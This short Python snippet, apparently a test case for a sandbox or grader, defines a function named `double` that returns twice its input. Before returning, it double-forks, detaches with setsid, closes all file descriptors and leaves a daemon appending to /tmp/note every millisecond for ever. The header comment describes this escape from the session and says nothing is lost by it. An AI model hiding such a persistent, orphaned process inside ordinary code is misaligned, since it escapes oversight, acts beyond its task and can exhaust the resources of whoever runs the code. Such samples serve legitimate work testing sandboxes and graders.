# A process that leaves its session and its parent, and writes to the scratch folders for ever.
# loses: nothing

# %% double
def double(x):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 256)
            while True:
                with contextlib.suppress(OSError):
                    open("/tmp/note", "a").write("for my friend")
                    time.sleep(0.001)
        os._exit(0)
    return 2 * x
